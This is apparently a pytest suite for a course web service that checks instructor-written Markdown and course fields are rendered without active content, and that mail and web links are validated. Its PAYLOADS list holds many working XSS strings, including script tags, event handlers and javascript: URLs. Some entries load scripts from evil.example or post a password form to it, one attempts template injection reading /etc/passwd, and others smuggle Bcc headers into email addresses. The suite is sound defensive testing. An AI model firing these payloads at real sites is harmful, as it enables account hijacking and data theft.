"""What instructors write is shown to students: none of it may act on their pages."""

import html
import time
from html.parser import HTMLParser

import pytest

from coyotelab_service.links import mail_link, web_link
from coyotelab_service.orm import Course
from coyotelab_service.prose import CELLS, TAGS, render

from .conftest import PREFIX, Site

# After cure53's and OWASP's lists: markup, Markdown's own ways to a link, encodings, breaking out.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\n=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<form action=https://evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav\tascript:alert(1)'>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](/hub/logout)",
    "[x](//evil.example)",
    "[x](https://user:secret@evil.example)",
    '[x](https://e.example/"onmouseover=alert(1))',
    "[x](https://e.example 'a\" onmouseover=\"alert(1)')",
    "[x](mailto:a@b.example?bcc=c@d.example)",
    "[x](mailto:a@b.example,c@d.example)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://e.example/x.png)',
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n[x]",
    "`<script>alert(1)</script>`",
    '```html"onmouseover=alert(1)\n<script>alert(1)</script>\n```',
    "# <script>alert(1)</script> {onclick=alert(1)}",
    "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "{{ 7*7 }}{% include '/etc/passwd' %}",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "\u202e<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
]


class Tags(HTMLParser):
    """The tags of a page, with their attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_gives_no_more_than_harmless_tags(payload: str) -> None:
    for text in (payload, f"> - **{payload}**", f"a\n\n{payload}\n\nb"):
        for tag, attributes in Tags(str(render(text))).found:
            assert tag in TAGS
            if tag == "a":
                assert attributes.pop("target") == "_blank"
                assert attributes.pop("rel") == "noopener noreferrer nofollow"
                href = attributes.pop("href", None)
                safe = href is None or web_link(href) or href == "mailto:a@b.example"
                assert safe, href
            assert attributes.keys() <= {"start"}


async def test_no_field_of_a_course_can_act_on_a_page(site: Site) -> None:
    browser = site.browser("instructor1")
    plain: set[tuple[str, str]] = set()
    for number, payload in enumerate(["plain", *PAYLOADS]):
        with site.database.transaction() as session:
            course = Course.get(session, "cs101")
            assert course
            text = payload.replace("\0", "")
            course.name, course.webpage, course.description = text, text, text
            course.instructor.email, course.instructor.name = text, text
        for path in ("courses/cs101", "courses/cs101/edit", ""):
            tags = Tags((await browser.get(path)).text).found
            acting = {
                (tag, name)
                for tag, attributes in tags
                for name, value in attributes.items()
                if name.startswith("on") or (value or "").lower().startswith("javascript:")
            }
            acting -= {("input", "value")}  # shown in a form as it was typed
            assert not acting, (path, payload)
            scripts = {attributes.get("src") or "" for tag, attributes in tags if tag == "script"}
            assert all(src.startswith(PREFIX) for src in scripts), (path, payload)
            kinds = {(path, tag) for tag, _ in tags if tag not in TAGS}
            plain = plain | kinds if number == 0 else plain
            assert kinds <= plain, (path, payload)


@pytest.mark.parametrize(
    "address",
    [
        *PAYLOADS,
        *("", "a", "a@", "@b.example", "a@b", "a b@c.example", "a@b.example\nBcc: c@d.example"),
        *("a@b.example,c@d.example", "a@b.example;c@d.example", "a@b.example?bcc=c@d.example"),
        *("a@b.example%0abcc:c@d.example", "<a@b.example>", "a@b..example", "a@-b.example"),
        *("a@b.example#x", '"a b"@c.example', "a@b.example/", "ä@b.example", "a@[127.0.0.1]"),
        "a@" + "b" * 300 + ".example",
    ],
)
def test_no_mail_link_to_what_is_no_plain_address(address: str) -> None:
    assert mail_link(address) == ""


def test_mail_links_to_one_person_and_nothing_else() -> None:
    assert mail_link("irene.ibarra+os@example.edu") == "mailto:irene.ibarra%2Bos@example.edu"
    assert mail_link("a?b&c=%0a@b.example") == "mailto:a%3Fb%26c%3D%250a@b.example"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_web_link_to_what_acts(payload: str) -> None:
    assert web_link(payload) == ""


@pytest.mark.parametrize(
    "address",
    [
        "https://www.example.edu/~me/os?x=1&y=[2]#top",
        "HTTP://EXAMPLE.EDU:8080/",
        "https://universität.example/straße",
        "http://[::1]:80/",
        "https://sub_domain.example.edu/(a)",
    ],
)
def test_web_links(address: str) -> None:
    assert web_link(f"  {address}\n") == address


def test_markdown_as_people_use_it() -> None:
    text = (
        "# Plan\n\nSee [the *site*](https://e.example/?a=1&b=2).\n\n![Map](https://e.example/m.png)"
    )
    shown = str(render(text))
    link = 'target="_blank" rel="noopener noreferrer nofollow">'
    assert "<h2>Plan</h2>" in shown and "<h1" not in shown
    assert f'<a href="https://e.example/?a=1&amp;b=2" {link}the <em>site</em></a>' in shown
    assert f'<a href="https://e.example/m.png" {link}Map</a>' in shown and "<img" not in shown
    assert "<td>1</td>" in render("|a|\n|-|\n|1|") and "<s>" in render("~~x~~")
    assert str(render("###### deep")) == "<h6>deep</h6>\n" and render("") == ""
    assert '<ol start="3">' in render("3. x")
    assert str(render("<mailto:a@b.example>")).startswith('<p><a href="mailto:a@b.example"')


@pytest.mark.parametrize(
    "text",
    [
        *("[" * 20_000, "![" * 10_000, "*a" * 10_000, "`" * 20_000, ">" * 20_000, "<" * 20_000),
        *(
            "[a](<b" * 3_333,
            "~~a" * 6_666,
            "- " * 10_000,
            "&" * 20_000,
            "\\" * 20_000,
            "_a_ " * 5_000,
        ),
        "|a" * 4_500 + "\n" + "|-" * 4_500 + "\n" + "|\n" * 900,
        "".join("`" * length + " " for length in range(190)),
        "\n".join(f"[a{number}]: x" for number in range(1_500)),
        "\n".join("  " * depth + "- a" for depth in range(180)),
    ],
    ids=lambda text: html.escape(text[:6]),
)
def test_no_text_takes_long_or_becomes_a_long_page(text: str) -> None:
    began = time.process_time()
    shown = render(text)
    assert time.process_time() - began < 3  # half a second alone on this machine
    assert len(shown) < 20 * len(text) + 20 * CELLS


async def test_course_information(site: Site) -> None:
    with site.database.transaction() as session:
        course = Course.get(session, "cs101")
        assert course
        course.description = "**Real** machines."
    page = (await site.browser("student1").get("courses/cs101")).text
    assert "<strong>Real</strong> machines." in page
    assert 'href="mailto:instructor1@example.edu"' in page
    web = 'href="https://www.example.edu/cs101" target="_blank" rel="noopener noreferrer"'
    assert web in page and "/edit" not in page
    with site.database.transaction() as session:
        course = Course.get(session, "cs101")
        assert course
        course.webpage, course.description, course.instructor.email = "", "", ""
        course.start_date = course.end_date = None
    page = (await site.browser("student1").get("courses/cs101")).text
    for gone in ("mailto:", "Web page", "Duration", "coyote-prose", "Teaching too"):
        assert gone not in page
